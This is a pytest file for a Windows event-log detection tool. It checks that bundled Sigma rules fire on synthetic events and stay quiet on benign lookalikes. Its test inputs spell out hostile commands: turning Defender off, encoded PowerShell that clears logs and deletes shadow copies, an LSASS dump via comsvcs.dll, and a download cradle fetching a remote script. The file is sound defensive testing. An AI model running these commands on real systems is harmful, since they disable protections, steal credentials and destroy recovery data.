"""The bundled rules on events of channels Windows keeps by default, built as each event is
documented (Microsoft's event schemas) and read through the same mapping as EVTX files.

Used where ../shared/data holds no recording of the technique (Defender configuration and
tamper events, BitLocker, cipher /w, System Restore, backup catalog, tscon, bursts)."""

from __future__ import annotations

import base64
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import duckdb
import ibis
import pytest

from ashiato.detect import sigma
from ashiato.detect.hunt import bundled_rules
from ashiato.formats.base import Source
from ashiato.formats.winevent import WinEvent, to_row
from ashiato.formats.winevent_rows import WinRows
from ashiato.normalize import finalize_batch

T0 = datetime(2024, 5, 10, 1, 0, tzinfo=UTC)
DEFENDER = ("Microsoft-Windows-Windows Defender", "Microsoft-Windows-Windows Defender/Operational")
SECURITY = ("Microsoft-Windows-Security-Auditing", "Security")
SYSTEM_SCM = ("Service Control Manager", "System")
LSM = (
    "Microsoft-Windows-TerminalServices-LocalSessionManager",
    "Microsoft-Windows-TerminalServices-LocalSessionManager/Operational",
)


def ev(
    source: tuple[str, str], eid: int, data: dict[str, Any], second: float = 0,
    host: str = "PC-07.corp.example.jp", user_data: bool = False,
) -> WinEvent:  # fmt: skip
    return WinEvent(
        provider=source[0], event_id=eid, channel=source[1], computer=host,
        time=(T0 + timedelta(seconds=second)).isoformat(), data=data, user_data=user_data,
        level=4, keywords="0x8000000000000000", process_id=4,
    )  # fmt: skip


def proc(cmd: str, second: float = 0, image: str = "C:\\Windows\\System32\\cmd.exe") -> WinEvent:
    return ev(
        SECURITY, 4688,
        {"NewProcessName": image, "CommandLine": cmd, "SubjectUserName": "sato",
         "ParentProcessName": "C:\\Windows\\explorer.exe", "NewProcessId": "0x1a4"},
        second,
    )  # fmt: skip


def titles(events: list[WinEvent], min_level: str = "informational") -> list[str]:
    rows = WinRows(
        Source(path=Path("x"), display="x", evidence_id="t", encoding="utf-8", tz=ZoneInfo("UTC"))
    )
    for n, e in enumerate(events, 1):
        rows.add(n, to_row(e))
    batch = rows.flush()
    assert batch is not None
    con = duckdb.connect()
    con.register("_b", finalize_batch(batch, "t", "windows"))
    con.execute("CREATE TABLE events AS SELECT * FROM _b")
    rules, problems = sigma.load([bundled_rules()])
    assert not problems
    res = sigma.hunt(ibis.duckdb.from_connection(con).table("events"), rules, min_level)
    assert not res.problems, res.problems
    return sorted(d.rule.title for d in res.detections)


def encoded(script: str) -> str:
    return base64.b64encode(script.encode("utf-16-le")).decode()


CASES = [
    ("Defender Real-Time Protection or Antivirus Turned Off", [ev(DEFENDER, 5001, {})]),
    (
        "Defender Exclusion Added or Protection Disabled in Its Configuration",
        [ev(DEFENDER, 5007, {
            "Old Value": "",
            "New Value": "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\"
                         "Users\\Public = 0x0"})],
    ),
    (
        "Defender Exclusion Added or Protection Disabled in Its Configuration",
        [ev(DEFENDER, 5007, {
            "Old Value": "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time "
                         "Protection\\DisableRealtimeMonitoring = 0x0",
            "New Value": "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Real-Time "
                         "Protection\\DisableRealtimeMonitoring = 0x1"})],
    ),
    ("Defender Tamper Protection Blocked a Change", [ev(DEFENDER, 5013, {"Value": "x"})]),
    ("Defender Failed to Remove a Threat", [ev(DEFENDER, 1118, {"Threat Name": "Ransom:Win32/X"})]),
    (
        "Defender Turned Off or Excluded From a Command Line",
        [proc("powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true")],
    ),
    (
        "Defender Turned Off or Excluded From a Command Line",
        [proc("powershell -nop -enc " + encoded("Add-MpPreference -ExclusionPath C:\\x"))],
    ),
    ("BitLocker Turned On From a Command Line or Script",
     [proc("manage-bde.exe -on C: -RecoveryPassword -sk D:\\")]),
    ("BitLocker Protectors Removed or Recovery Forced",
     [proc("manage-bde -protectors -delete C: -type RecoveryPassword")]),
    ("Volume Shrunk From a Command Line",
     [proc("powershell Resize-Partition -DriveLetter C -Size 50GB")]),
    ("BitLocker Encryption Started or Protector Added", [
        ev(("Microsoft-Windows-BitLocker-API", "Microsoft-Windows-BitLocker/BitLocker Management"),
           768, {"VolumeName": "C:"})]),
    ("Free Space Wiped With cipher /w", [proc("cipher.exe /w:C:\\")]),
    ("System Restore Disabled", [proc(
        'reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows NT\\SystemRestore" /v DisableSR '
        "/t REG_DWORD /d 1 /f")]),
    ("System Restore Disabled in the Registry", [ev(
        ("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational"), 13,
        {"EventType": "SetValue", "Image": "C:\\Windows\\regedit.exe",
         "TargetObject": "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows NT\\SystemRestore\\"
                         "DisableConfig",
         "Details": "DWORD (0x00000001)"})]),
    ("Backup Catalog Deleted", [ev(("Microsoft-Windows-Backup", "Application"), 524, {})]),
    ("RDP Session Hijack With tscon", [proc("tscon.exe 3 /dest:rdp-tcp#5")]),
    ("Event Log or Sysmon Service Disabled", [ev(SYSTEM_SCM, 7040, {
        "param1": "Windows Event Log", "param2": "auto start", "param3": "disabled",
        "param4": "EventLog"})]),
    ("Event Log Clearing Hidden in Encoded PowerShell",
     [proc(f"powershell.exe -e {encoded('Clear-EventLog -LogName Security,System')}")]),
    ("Shadow Copy or Backup Deletion Hidden in Encoded PowerShell",
     [proc("powershell -w hidden -EncodedCommand "
           + encoded("vssadmin delete shadows /all /quiet"))]),
    ("Credential Dumping Command or Tool",
     [proc("rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\t\\l.dmp full")]),
    ("RDP Session From a Public Address", [ev(LSM, 21, {
        "User": "CORP\\adm", "SessionID": "3", "Address": "198.51.100.23"}, user_data=True)]),
    ("Defender Detected Malware", [ev(DEFENDER, 1116, {
        "Threat Name": "Trojan:Win32/Wacatac.B!ml", "Severity ID": "2"})]),
    ("Defender Detected Low-Severity Software", [ev(DEFENDER, 1116, {
        "Threat Name": "PUA:Win32/Presenoker", "Severity ID": "1"})]),
    ("PsExec With a Password on the Command Line",
     [proc("PsExec64.exe \\\\FS01 -u corp\\adm -p Passw0rd! cmd.exe")]),
]  # fmt: skip


@pytest.mark.parametrize(("title", "events"), CASES)
def test_rule_fires(title: str, events: list[WinEvent]) -> None:
    assert title in titles(events)


def test_windows_powershell_400_host_application_is_a_command_line() -> None:
    # Windows PowerShell 400 keeps HostApplication in an unnamed Data string
    cradle = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')"
    data = {
        "Data": [
            "Available",
            "None",
            (
                "\tNewEngineState=Available\r\n\tPreviousEngineState=None\r\n\tSequenceNumber=13\r\n"
                f"\tHostName=ConsoleHost\r\n\tHostApplication=powershell.exe -nop -w hidden -enc "
                f"{encoded(cradle)}\r\n\tEngineVersion=5.1.19041.1\r\n"
            ),
        ]
    }
    got = titles([ev(("PowerShell", "Windows PowerShell"), 400, data)], "medium")
    assert "PowerShell Download Cradle" in got  # seen through the decoded text
    assert "Hidden PowerShell Running Encoded or Downloaded Code" in got
    assert "Encoded PowerShell Command" in got


def test_service_burst_and_failed_logons() -> None:
    services = [
        ev(SYSTEM_SCM, 7045, {"ServiceName": f"s{i}", "ImagePath": f"%COMSPEC% /c echo {i}",
                              "ServiceType": "user mode service"}, i * 3)
        for i in range(12)
    ]  # fmt: skip
    assert "Burst of Service Installs" in titles(services)
    assert "Burst of Service Installs" not in titles(services[:5])
    fail = "0x8010000000000000"
    brute = [
        ev(SECURITY, 4625, {"TargetUserName": "adm", "LogonType": 3, "IpAddress": "203.0.113.9",
                            "Status": "0xc000006d"}, i)
        for i in range(12)
    ]  # fmt: skip
    spray = [
        ev(SECURITY, 4625, {"TargetUserName": f"user{i}", "LogonType": 3,
                            "IpAddress": "203.0.113.9", "Status": "0xc000006d"}, i)
        for i in range(6)
    ]  # fmt: skip
    for e in brute + spray:
        e.keywords = fail
    got = titles(brute)
    assert "Password Guessing Against One Account (Brute Force)" in got
    assert "Password Spraying (Many Accounts From One Source)" not in got
    got = titles(spray)
    assert "Password Spraying (Many Accounts From One Source)" in got
    assert "Password Guessing Against One Account (Brute Force)" not in got


LOOKALIKES = [
    [ev(DEFENDER, 5007, {
        "Old Value": "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\C:\\x = 0x0",
        "New Value": ""})],  # an exclusion removed
    [ev(DEFENDER, 5007, {
        "Old Value": "", "New Value": "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature "
                                      "Updates\\SignatureType = 0x1"})],
    [ev(DEFENDER, 1116, {"Threat Name": "PUA:Win32/Presenoker", "Severity ID": "1"})],
    [proc("manage-bde -status"), proc("cipher /e /s:D:\\private"),
     proc("powershell Get-MpPreference"), proc("tscon /?"), proc("sc query eventlog"),
     proc("schtasks /query /s FS01"), proc("powershell -ExecutionPolicy Bypass -File a.ps1")],
    [ev(LSM, 21, {"User": "CORP\\adm", "Address": "10.20.1.7"}, user_data=True),
     ev(LSM, 25, {"User": "CORP\\adm", "Address": "LOCAL"}, user_data=True)],
    [ev(SYSTEM_SCM, 7040, {"param1": "Background Intelligent Transfer Service",
                           "param2": "auto start", "param3": "demand start", "param4": "BITS"})],
    [ev(SYSTEM_SCM, 7045, {"ServiceName": "vmci", "ImagePath": "system32\\DRIVERS\\vmci.sys",
                           "ServiceType": "kernel mode driver"}, i) for i in range(15)],
]  # fmt: skip


@pytest.mark.parametrize("events", LOOKALIKES)
def test_lookalikes_stay_quiet(events: list[WinEvent]) -> None:
    assert titles(events, "medium") == []
